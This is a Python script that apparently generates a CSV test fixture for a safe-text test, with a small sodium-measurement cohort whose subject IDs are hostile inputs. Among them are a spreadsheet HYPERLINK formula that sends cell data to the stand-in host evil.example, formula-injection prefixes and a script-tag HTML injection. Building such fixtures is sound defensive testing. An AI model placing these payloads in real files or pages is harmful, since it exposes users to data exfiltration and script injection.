"""Rebuild hostile_columns.csv from names.json: python tests/data/hostile_names/make_corpus.py.

Each name in names.json becomes the header of an extra column of a small valid
cohort; the ids include spreadsheet formulas. tests/test_safe_text.py checks the
CSV is what this script writes.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

HERE = Path(__file__).parent


def names() -> list[str]:
    """The hostile names (the 5,000-character one is built here, not stored)."""
    entries = json.loads((HERE / "names.json").read_text(encoding="utf-8"))["names"]
    return [e["name"] for e in entries] + ["L" * 4990 + "<b>long</b>"]


IDS = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "+1+2", "-3+4", "@SUM(A1:A9)",
       "\tR5", "R6", "<script>document.body.classList.add('pwned-id')</script>", "R8"]  # fmt: skip
GROUPS = ["cramp", "control"] * 4
SODIUM = [("140", "138"), ("141", "142"), ("139", "137"), ("142", "141"),
          ("138", "136"), ("143", "144"), ("140", "139"), ("141", "140")]  # fmt: skip


def corpus() -> str:
    extra = names()
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["subject_id", "group", "sodium_pre", "sodium_post", *extra])
    for i, (sid, group, (pre, post)) in enumerate(zip(IDS, GROUPS, SODIUM, strict=True)):
        writer.writerow([sid, group, pre, post, *[str(i)] * len(extra)])
    return out.getvalue()


if __name__ == "__main__":
    (HERE / "hostile_columns.csv").write_text(corpus(), encoding="utf-8", newline="")
